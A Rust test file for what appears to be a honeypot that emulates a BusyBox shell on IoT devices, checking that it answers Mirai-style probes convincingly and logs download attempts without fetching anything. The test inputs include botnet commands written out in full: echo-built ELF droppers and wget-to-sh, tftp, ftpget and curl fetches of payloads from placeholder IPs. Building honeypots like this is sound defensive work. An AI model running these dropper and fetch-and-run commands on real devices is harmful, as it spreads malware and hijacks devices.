use super::*;
use crate::profile::{DVR, ROUTER};

fn run(sh: &mut Shell, line: &str) -> (String, Vec<ShellEvent>) {
    let o = sh.run_line(line);
    (String::from_utf8_lossy(&o.text).into_owned(), o.events)
}

#[test]
fn mirai_probes_answer_as_busybox() {
    let mut sh = Shell::new(&DVR);
    for cmd in ["enable", "system", "shell", "sh"] {
        assert_eq!(run(&mut sh, cmd), (String::new(), vec![]), "{cmd}");
    }
    assert_eq!(
        run(&mut sh, "/bin/busybox ECCHI").0,
        "ECCHI: applet not found\n"
    );
    assert_eq!(
        run(&mut sh, "/bin/busybox ps; /bin/busybox ECCHI").0,
        format!("{}ECCHI: applet not found\n", DVR.ps)
    );
    let (mounts, _) = run(&mut sh, "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI");
    assert!(mounts.starts_with(DVR.mounts) && mounts.ends_with("applet not found\n"));
    assert_eq!(run(&mut sh, "cat /proc/cpuinfo").0, DVR.cpuinfo);
    assert_eq!(run(&mut sh, "uname -m").0, "armv7l\n");
    assert_eq!(
        run(&mut Shell::new(&ROUTER), "uname -a").0,
        "Linux RTL8196E 2.6.30.9 #1 Wed May 11 10:30:02 CST 2016 mips GNU/Linux\n"
    );
}

#[test]
fn echo_dropper_bytes_are_kept() {
    let mut sh = Shell::new(&DVR);
    assert_eq!(run(&mut sh, "cd /tmp").0, "");
    run(
        &mut sh,
        "echo -ne '\\x7f\\x45\\x4c\\x46' > .d; echo -ne '\\x01\\0101\\xff' >> .d",
    );
    let f = sh.fs().written("/tmp/.d").expect("written in /tmp");
    assert_eq!(f.data, [0x7f, b'E', b'L', b'F', 1, b'A', 0xff]);
    assert_eq!(run(&mut sh, "cat .d").0.as_bytes()[..4], *b"\x7fELF");
    // `\c` stops, -e without -n keeps the newline, -E leaves escapes alone.
    assert_eq!(run(&mut sh, "echo -e 'a\\cb'").0, "a");
    assert_eq!(run(&mut sh, "echo -E 'a\\x41'").0, "a\\x41\n");
    assert_eq!(run(&mut sh, "echo hi   there").0, "hi there\n");
}

#[test]
fn chained_commands_follow_exit_status() {
    let mut sh = Shell::new(&DVR);
    assert_eq!(
        run(&mut sh, "cd /nope || cd /var/run && pwd").0,
        "sh: cd: can't cd to /nope\n/var/run\n"
    );
    assert_eq!(run(&mut sh, "false && echo no || echo yes").0, "yes\n");
    assert_eq!(
        run(&mut sh, "echo x > /x").0,
        "sh: can't create /x: Read-only file system\n"
    );
    assert_eq!(run(&mut sh, "ls /nowhere 2>/dev/null; echo ok").0, "ok\n");
    assert_eq!(
        run(&mut sh, "echo 'x").0,
        "sh: syntax error: unterminated quoted string\n"
    );
}

#[test]
fn written_programs_fail_as_foreign_binaries() {
    let mut sh = Shell::new(&DVR);
    run(
        &mut sh,
        "cd /tmp; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper",
    );
    assert_eq!(
        run(&mut sh, "./dvrHelper").0,
        "sh: ./dvrHelper: Permission denied\n"
    );
    assert_eq!(
        run(
            &mut sh,
            "/bin/busybox chmod 777 dvrHelper; ./dvrHelper telnet.x86"
        )
        .0,
        "Illegal instruction\n"
    );
    assert_eq!(run(&mut sh, "./nothing").0, "sh: ./nothing: not found\n");
    assert_eq!(
        run(&mut sh, "chmod 777 ghost").0,
        "chmod: ghost: No such file or directory\n"
    );
    assert!(run(&mut sh, "ls").0.contains("dvrHelper"));
}

#[test]
fn downloads_are_recorded_never_fetched() {
    let mut sh = Shell::new(&DVR);
    let (text, ev) = run(&mut sh, "cd /tmp; wget http://198.51.100.7/x.sh -O- | sh");
    assert_eq!(
        ev,
        [ShellEvent::Download {
            url: "http://198.51.100.7/x.sh".into(),
            destfile: Some("-".into())
        }]
    );
    assert_eq!(text, "Connecting to 198.51.100.7 (198.51.100.7:80)\nwget: can't connect to remote host (198.51.100.7): Connection refused\n");
    let (_, ev) = run(&mut sh, "tftp -g -l dvr -r bins/mips 203.0.113.9 6969");
    assert_eq!(
        ev,
        [ShellEvent::Download {
            url: "tftp://203.0.113.9:6969/bins/mips".into(),
            destfile: Some("dvr".into())
        }]
    );
    let (_, ev) = run(
        &mut sh,
        "ftpget -v -u anonymous -p anonymous -P 2121 198.51.100.8 m /m.arm",
    );
    assert_eq!(
        ev,
        [ShellEvent::Download {
            url: "ftp://anonymous:anonymous@198.51.100.8:2121/m.arm".into(),
            destfile: Some("m".into())
        }]
    );
    let (text, ev) = run(&mut sh, "curl -s -o a 198.51.100.9:8080/a");
    assert_eq!(
        ev,
        [ShellEvent::Download {
            url: "http://198.51.100.9:8080/a".into(),
            destfile: Some("a".into())
        }]
    );
    assert!(text.contains("port 8080"));
    assert_eq!(
        host_port("http://u:p@[2001:db8::1]:81/x"),
        Some(("2001:db8::1".into(), 81))
    );
}

#[test]
fn unknown_commands_are_not_found_and_recorded() {
    let mut sh = Shell::new(&DVR);
    let (text, ev) = run(&mut sh, "nvram show; exit");
    assert_eq!(text, "sh: nvram: not found\n");
    assert_eq!(
        ev,
        [ShellEvent::NotFound {
            input: "nvram show".into()
        }]
    );
    assert!(sh.run_line("exit").exit);
    let out = sh.run_line("/bin/busybox");
    assert!(String::from_utf8_lossy(&out.text).starts_with("BusyBox v1.16.1"));
}
